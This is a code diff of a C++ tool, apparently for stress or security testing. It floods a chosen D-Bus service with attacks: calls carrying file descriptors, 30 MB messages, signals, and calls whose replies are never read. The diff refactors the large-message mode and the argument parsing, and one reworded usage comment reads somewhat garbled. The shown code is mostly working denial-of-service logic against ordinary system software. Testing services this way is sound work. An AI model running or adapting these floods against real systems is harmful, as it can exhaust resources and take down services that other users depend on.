@@ -1,8 +1,7 @@
 // What somebody who has a login can do to a service over the bus.
 // usage: attack KIND SECONDS SERVICE PATH INTERFACE METHOD
-//   descriptors  introspection that carries 16 file descriptors each, behind 2,000 calls that keep the
-//   service
-//                busy; no reply is ever read
+//   descriptors  introspection that carries 16 file descriptors each, behind 2,000 without that
+//                and keep the service busy; no reply is ever read
 //   signals      signals to the service alone, with 16 file descriptors each
 //   large        calls of 30 MB each
 //   calls        calls without a break, whose replies are never read
@@ -14,7 +13,6 @@
 
 #include <chrono>
 #include <cstdio>
-#include <cstdlib>
 #include <fcntl.h>
 #include <functional>
 #include <map>
@@ -100,17 +98,20 @@ void sendSignals(Attack &attack)
     });
 }
 
+Message newLargeCall(const Method &method)
+{
+    static const std::vector<unsigned char> bytes(30 << 20, 'x');
+    Message message = newCall(method);
+    const unsigned char *data = bytes.data();
+    dbus_message_append_args(message.get(), DBUS_TYPE_ARRAY, DBUS_TYPE_BYTE, &data,
+                             static_cast<int>(bytes.size()), DBUS_TYPE_INVALID);
+    return message;
+}
+
 void sendLargeCalls(Attack &attack)
 {
-    const std::vector<unsigned char> bytes(30 << 20, 'x');
-    onConnections(attack, [&](Bus &bus) {
-        sendOn(bus, attack, [&] {
-            Message message = newCall(attack.method);
-            const unsigned char *data = bytes.data();
-            dbus_message_append_args(message.get(), DBUS_TYPE_ARRAY, DBUS_TYPE_BYTE, &data,
-                                     static_cast<int>(bytes.size()), DBUS_TYPE_INVALID);
-            return message;
-        });
+    onConnections(attack, [&attack](Bus &bus) {
+        sendOn(bus, attack, [&attack] { return newLargeCall(attack.method); });
     });
 }
 
@@ -161,13 +162,14 @@ int main(int argc, char *argv[])
         {"descriptors", sendDescriptors},
         {"signals", sendSignals},
         {"large", sendLargeCalls},
+
         {"calls", sendUnread},
         {"pending", sendRead},
         {"deaf", subscribeDeaf},
     };
     if (argc != 7 || kinds.count(argv[1]) == 0)
         fail("usage: attack KIND SECONDS SERVICE PATH INTERFACE METHOD");
-    Attack attack = {{argv[3], argv[4], argv[5], argv[6]}, now() + std::atof(argv[2])};
+    Attack attack = {{argv[3], argv[4], argv[5], argv[6]}, now() + readSeconds(argv[2])};
     kinds.at(argv[1])(attack);
     std::printf("sent %ld over %d connections\n", attack.sent, attack.connections);
 }
